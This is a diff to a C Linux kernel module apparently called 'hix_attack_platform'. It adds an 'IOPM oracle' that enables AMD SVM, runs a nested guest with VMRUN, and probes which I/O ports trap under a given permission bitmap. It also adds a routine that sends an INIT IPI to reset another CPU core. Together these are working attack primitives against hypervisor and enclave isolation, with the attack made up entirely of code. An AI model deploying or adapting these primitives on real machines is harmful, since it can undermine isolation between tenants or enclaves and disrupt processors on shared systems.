@@ -11,9 +11,16 @@
 #include <linux/mm.h>
 #include <linux/slab.h>
 #include <linux/uaccess.h>
+#include <asm/apic.h>
 #include <asm/asm.h>
+#include <asm/debugreg.h>
+#include <asm/desc.h>
 #include <asm/msr.h>
 #include <asm/processor.h>
+#include <asm/segment.h>
+#include <asm/smp.h>
+#include <asm/svm.h>
+#include <asm/tlbflush.h>
 
 #include "hix_attack_platform.h"
 
@@ -211,5 +218,173 @@ out:
 	kfree(page);
 	kfree(pi);
 	kfree(secs);
+	return ret;
+}
+
+/*
+ * The IOPM oracle's nested guest: IN from the port in EAX, then HLT. Kernel
+ * text, run at CPL0 with the caller's page tables (no nested paging).
+ */
+void hix_attack_l2_in_stub(void);
+asm(".pushsection .text\n"
+    ".globl hix_attack_l2_in_stub\n"
+    ".type hix_attack_l2_in_stub, @function\n"
+    "hix_attack_l2_in_stub:\n\t"
+    "movl %eax, %edx\n\t"
+    "inb %dx, %al\n\t"
+    "hlt\n\t"
+    "ud2\n"
+    ".size hix_attack_l2_in_stub, . - hix_attack_l2_in_stub\n"
+    ".popsection");
+
+#define HIX_ATTACK_IOPM_MAX_PORTS 512u
+#define HIX_ATTACK_SEG_LIMIT 0xffffffffu
+#define HIX_ATTACK_DR7_RESET 0x400u /* the value after reset */
+
+static void hix_attack_intercept(struct vmcb *vmcb, unsigned int bit)
+{
+	vmcb->control.intercepts[bit / 32] |= 1u << (bit % 32);
+}
+
+/* A VMCB that runs the stub on `port` as a 64-bit CPL0 guest. */
+static void hix_attack_l2_vmcb(struct vmcb *vmcb, u64 iopm_base, u16 port,
+			       u64 efer, u64 stack_top)
+{
+	struct desc_ptr gdt, idt;
+
+	memset(vmcb, 0, sizeof(*vmcb));
+	/* Every exception and a shutdown exit too: nothing runs the L2 IDT. */
+	vmcb->control.intercepts[INTERCEPT_EXCEPTION_OFFSET / 32] = ~0u;
+	hix_attack_intercept(vmcb, INTERCEPT_IOIO_PROT);
+	hix_attack_intercept(vmcb, INTERCEPT_HLT);
+	hix_attack_intercept(vmcb, INTERCEPT_SHUTDOWN);
+	hix_attack_intercept(vmcb, INTERCEPT_VMRUN); /* required by VMRUN */
+	vmcb->control.iopm_base_pa = iopm_base;
+	vmcb->control.asid = 1;
+
+	native_store_gdt(&gdt);
+	store_idt(&idt);
+	vmcb->save.cs.selector = __KERNEL_CS;
+	vmcb->save.cs.attrib = SVM_SELECTOR_P_MASK | SVM_SELECTOR_S_MASK |
+			       SVM_SELECTOR_L_MASK | SVM_SELECTOR_G_MASK |
+			       SVM_SELECTOR_CODE_MASK | SVM_SELECTOR_READ_MASK;
+	vmcb->save.cs.limit = HIX_ATTACK_SEG_LIMIT;
+	vmcb->save.ss.selector = __KERNEL_DS;
+	vmcb->save.ss.attrib = SVM_SELECTOR_P_MASK | SVM_SELECTOR_S_MASK |
+			       SVM_SELECTOR_DB_MASK | SVM_SELECTOR_G_MASK |
+			       SVM_SELECTOR_WRITE_MASK;
+	vmcb->save.ss.limit = HIX_ATTACK_SEG_LIMIT;
+	vmcb->save.gdtr.base = gdt.address;
+	vmcb->save.gdtr.limit = gdt.size;
+	vmcb->save.idtr.base = idt.address;
+	vmcb->save.idtr.limit = idt.size;
+	vmcb->save.cpl = 0;
+	vmcb->save.efer = efer;
+	vmcb->save.cr0 = read_cr0();
+	vmcb->save.cr3 = __read_cr3();
+	vmcb->save.cr4 = __read_cr4();
+	vmcb->save.dr7 = HIX_ATTACK_DR7_RESET;
+	vmcb->save.dr6 = DR6_RESERVED;
+	vmcb->save.rflags = X86_EFLAGS_FIXED; /* IF clear */
+	vmcb->save.rip = (u64)hix_attack_l2_in_stub;
+	vmcb->save.rsp = stack_top;
+	vmcb->save.rax = port;
+}
+
+long hix_attack_iopm_oracle(struct hix_attack_iopm_oracle *req)
+{
+	struct page *vmcb_page, *hsave, *stack;
+	struct vmcb *vmcb;
+	unsigned long flags;
+	u64 efer, now = 0, old_hsave = 0, vmcb_pa;
+	unsigned int i;
+	int fault;
+
+	if (!req->nports || req->nports > HIX_ATTACK_IOPM_MAX_PORTS ||
+	    req->reserved)
+		return -EINVAL;
+	memset(req->exits, 0, sizeof(req->exits));
+	req->svme = 0;
+	req->vmruns = 0;
+	req->other_exits = 0;
+	req->last_other = 0;
+	vmcb_page = alloc_page(GFP_KERNEL | __GFP_ZERO);
+	hsave = alloc_page(GFP_KERNEL | __GFP_ZERO);
+	stack = alloc_page(GFP_KERNEL | __GFP_ZERO);
+	if (!vmcb_page || !hsave || !stack) {
+		if (vmcb_page)
+			__free_page(vmcb_page);
+		if (hsave)
+			__free_page(hsave);
+		if (stack)
+			__free_page(stack);
+		return -ENOMEM;
+	}
+	vmcb = page_address(vmcb_page);
+	vmcb_pa = page_to_phys(vmcb_page);
+	local_irq_save(flags);
+	rdmsrl(MSR_EFER, efer);
+	req->svme = !wrmsrl_safe(MSR_EFER, efer | EFER_SVME) &&
+		    !rdmsrl_safe(MSR_EFER, &now) && (now & EFER_SVME);
+	if (req->svme) {
+		if (rdmsrl_safe(MSR_VM_HSAVE_PA, &old_hsave))
+			old_hsave = 0;
+		if (wrmsrl_safe(MSR_VM_HSAVE_PA, page_to_phys(hsave)))
+			req->svme = 0;
+	}
+	for (i = 0; i < req->nports; i++) {
+		u16 port = req->first_port + i;
+		u64 code;
+
+		hix_attack_l2_vmcb(vmcb, req->iopm_base, port, now,
+				   (u64)page_address(stack) + PAGE_SIZE);
+		fault = 1;
+		/* Without SVM VMRUN raises #UD: fixed up, and the loop ends. */
+		asm volatile("1: vmrun %%rax\n\t"
+			     "movl $0, %0\n"
+			     "2:\n" _ASM_EXTABLE(1b, 2b)
+			     : "+r"(fault), "+a"(vmcb_pa)
+			     :
+			     : "rdx", "memory", "cc");
+		if (fault)
+			break;
+		asm volatile("stgi" ::: "memory"); /* #VMEXIT cleared GIF */
+		req->vmruns++;
+		code = vmcb->control.exit_code;
+		if (code == SVM_EXIT_IOIO) {
+			req->exits[i / 8] |= (u8)(1u << (i % 8));
+		} else if (code != SVM_EXIT_HLT) {
+			req->other_exits++;
+			req->last_other = (u32)code;
+		}
+	}
+	if (now & EFER_SVME) {
+		wrmsrl_safe(MSR_VM_HSAVE_PA, old_hsave);
+		wrmsrl(MSR_EFER, efer);
+	}
+	local_irq_restore(flags);
+	__free_page(stack);
+	__free_page(hsave);
+	__free_page(vmcb_page);
+	return 0;
+}
+
+long hix_attack_init_ipi(struct hix_attack_init_ipi *req)
+{
+	unsigned long flags;
+	int self = get_cpu();
+	long ret = 0;
+
+	if (req->cpu >= nr_cpu_ids || !cpu_online(req->cpu) ||
+	    req->cpu == (u32)self) {
+		ret = -EINVAL;
+		goto out;
+	}
+	req->apic_id = per_cpu(x86_cpu_to_apicid, req->cpu);
+	local_irq_save(flags);
+	apic_icr_write(APIC_INT_ASSERT | APIC_DM_INIT, req->apic_id);
+	local_irq_restore(flags);
+out:
+	put_cpu();
 	return ret;
 }
